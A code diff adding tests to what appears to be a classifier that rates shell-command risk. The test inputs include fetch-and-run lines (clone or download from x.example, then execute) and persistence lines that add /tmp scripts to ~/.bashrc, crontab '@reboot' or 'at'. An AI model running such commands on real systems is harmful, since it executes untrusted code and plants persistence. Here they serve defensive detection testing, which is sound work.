@@ -51,3 +51,57 @@ def test_what_a_line_fetches_and_runs(run: str, behind: str) -> None:
 @each("command", ["python3 process.py a.csv", "jq . a.csv", "python3 -c 'print(open(\"a.csv\").read())'"])
 def test_data_that_a_line_fetches_is_no_code(command: str) -> None:
     assert classify(f"curl -so a.csv https://x.example/a.csv && {command}").level is Level.MEDIUM
+
+
+FETCHES = (
+    "git clone https://x.example/r",
+    "git clone --depth 1 git@x.example:o/r.git",
+    "git clone https://x.example/other r",
+    "gh repo clone o/r",
+    "hg clone https://x.example/r",
+    "svn checkout https://x.example/trunk r",
+    "curl -sL https://x.example/r.tgz | tar xz -C r",
+    "wget -q https://x.example/r.tgz && tar xf r.tgz -C r",
+    "curl -LO https://x.example/r.zip && unzip -q r.zip -d r",
+)
+BELOW = (
+    "r/run.sh",
+    "bash r/run.sh",
+    "cd r && ./run.sh",
+    "make -C r",
+    "cd r && npm run build",
+    "python3 r/a.py",
+    "pip install ./r",
+)
+
+
+@each("fetch, run", [(fetch, run) for fetch in FETCHES for run in BELOW])
+def test_what_lies_in_a_fetched_folder_is_code_from_elsewhere(fetch: str, run: str) -> None:
+    assert classify(f"{fetch} && {run}").level is Level.HIGH
+
+
+@each("fetch", FETCHES)
+def test_a_fetched_folder_that_is_only_looked_at_is_no_code(fetch: str) -> None:
+    for look in ("ls r", "cat r/README", "make", "./run.sh", "cd r && git log"):
+        assert classify(f"{fetch} && {look}").level is Level.MEDIUM, look
+
+
+@each("run", BELOW)
+def test_a_clone_of_a_folder_here_is_the_projects_own(run: str) -> None:
+    assert classify(f"git clone ../r && {run}").level is Level.MEDIUM
+
+
+@each("form", ["-qO f", "-O f", "-nvO f", "--output-document=f", '-qO "$T"'])
+def test_every_form_of_a_name_for_a_download(form: str) -> None:
+    assert (
+        classify(f"T=$(mktemp); wget {form} https://x.example/a; sh {form.partition(' ')[2] or 'f'}").level
+        is Level.HIGH
+    )
+
+
+@each("lines", ["/tmp/u", "sh /tmp/u", "python3 /dev/shm/u.py", "bash /var/tmp/u &"])
+def test_what_runs_later_from_an_open_folder(lines: str) -> None:
+    for later in (f"echo '{lines}' >> ~/.bashrc", f"echo '@reboot {lines}' | crontab -", f"echo '{lines}' | at now"):
+        assert classify(later).level is Level.HIGH, later
+        own = later.replace("/tmp/", "/home/me/").replace("/dev/shm", "/home/me").replace("/var/home", "/home")
+        assert classify(own).level is Level.MEDIUM, own
